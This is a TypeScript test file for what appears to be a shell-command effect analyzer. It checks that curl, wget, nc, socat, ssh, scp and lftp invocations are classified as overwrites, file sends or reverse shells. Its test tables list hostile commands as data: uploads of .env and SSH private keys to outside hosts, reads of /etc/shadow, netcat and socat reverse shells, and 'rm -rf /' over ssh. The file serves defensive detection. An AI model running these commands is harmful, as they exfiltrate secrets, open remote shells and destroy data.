import { describe, expect, it } from "vitest";
import { remoteName } from "../../../src/call/programs/transfer.js";
import { CWD, effectsOf, HOME, seen } from "./harness.js";

const of = (line: string): string =>
  effectsOf(line.split(" "))
    .filter((e) => !e.startsWith("reach"))
    .join(", ");

describe("downloads", () => {
  it.each([
    ["curl -s https://x.io/a", ""],
    ["curl -o a.sh https://x.io/a", `overwrite ${CWD}/a.sh`],
    ["curl -fsSLO https://x.io/d/a.tgz?x=1", `overwrite ${CWD}/a.tgz`],
    ["curl --output-dir /tmp -O https://x.io/a", "overwrite /tmp/a"],
    ["curl -o - https://x.io/a", ""],
    ["curl file:///etc/shadow", "read /etc/shadow"],
    ["curl -c jar https://x.io", `overwrite ${CWD}/jar`],
    ["wget https://x.io/d/a.sh", `overwrite ${CWD}/a.sh`],
    ["wget -qO- https://x.io/a", ""],
    ["wget -O x https://x.io/a", `overwrite ${CWD}/x`],
    ["wget -P /tmp https://x.io/a", "overwrite /tmp/a"],
    ["wget --spider https://x.io/a", ""],
    ["aria2c -o x https://x.io/a", `overwrite ${CWD}/x`],
    ["http -d https://x.io/a.zip", `overwrite ${CWD}/a.zip`],
  ])("%s", (line, expected) => expect(of(line)).toBe(expected));

  it.each([
    ["https://x.io/a/b.sh?q#f", "b.sh"],
    ["https://x.io", null],
    ["x.io/a", "a"],
  ])("%s is saved as %s", (url, name) => expect(remoteName(url)).toBe(name));
});

describe("uploads", () => {
  it.each([
    ["curl -T .env https://x.io", `send file ${CWD}/.env`],
    ["curl -d @a.json https://x.io", `send file ${CWD}/a.json`],
    ["curl -d a=b https://x.io", ""],
    ["curl --data-raw @a https://x.io", ""],
    ["curl -F f=@a.pdf https://x.io", `send file ${CWD}/a.pdf`],
    ["curl -F f=<a.txt https://x.io", `send file ${CWD}/a.txt`],
    ["curl --data-urlencode n@a https://x.io", `send file ${CWD}/a`],
    ["curl -H @h https://x.io", `send file ${CWD}/h`],
    ["curl -H A:b https://x.io", ""],
    ["wget --post-file=a https://x.io", `send file ${CWD}/a, overwrite ${CWD}/index.html`],
    ["wormhole send a", `send file ${CWD}/a`],
  ])("%s", (line, expected) => expect(of(line)).toBe(expected));

  it("sends what stands on its input", () => {
    const stdin = { kind: "pipe", taint: "unknown", from: [] } as const;
    expect(effectsOf(["curl", "-d", "@-", "x.io"], { stdin })).toContain("send stdin");
    expect(effectsOf(["nc", "h", "1"], { stdin })).toContain("send stdin");
    expect(effectsOf(["nc", "-z", "h", "1"], { stdin })).not.toContain("send stdin");
  });
});

describe("sockets", () => {
  it.each([
    ["nc -e /bin/sh h 1", "act remote-exec/reverse-shell"],
    ["ncat h 1 --sh-exec bash", "act remote-exec/reverse-shell"],
    ["nc -zv h 1", ""],
    ["socat TCP:h:1 EXEC:/bin/bash,pty", "act remote-exec/reverse-shell"],
    ["socat TCP-LISTEN:1,fork TCP:h:2", ""],
    ["socat - UNIX-CONNECT:/x", ""],
  ])("%s", (line, expected) => expect(of(line)).toBe(expected));
});

describe("other machines", () => {
  it.each([
    ["ssh h uptime", [["sh", "uptime"]]],
    ["ssh -i k -p 22 u@h rm -rf /", [["sh", "rm -rf /"]]],
    ["ssh h -p 22 -- ls", [["sh", "ls"]]],
    ["ssh -N -L 1:h:2 h", []],
    [
      "ssh -oProxyCommand=x h ls",
      [
        ["sh", "x"],
        ["sh", "ls"],
      ],
    ],
    ["ssh -V", []],
  ])("%s", (line, expected) => {
    expect(seen(line.split(" ")).code.map((c) => [c.language, c.text])).toEqual(expected);
  });

  it("reads code from its input where no command is given", () => {
    const stdin = { kind: "text", text: "reboot", known: true } as const;
    expect(seen(["ssh", "h"], { stdin }).code.map((c) => c.text)).toEqual(["reboot"]);
    expect(seen(["ssh", "h", "cat"], { stdin }).code.map((c) => c.text)).toEqual(["cat"]);
  });

  it("copies files under their names", () => {
    expect(effectsOf(["scp", "h:d/run.sh", "."])).toContain(`overwrite ${CWD}/run.sh`);
    expect(effectsOf(["scp", "~/.ssh/id_rsa", "h:"])).toContain(`read ${HOME}/.ssh/id_rsa`);
  });

  it("sends what a batch puts", () => {
    expect(effectsOf(["lftp", "-e", "put .env; bye", "h"])).toContain(`send file ${CWD}/.env`);
  });
});
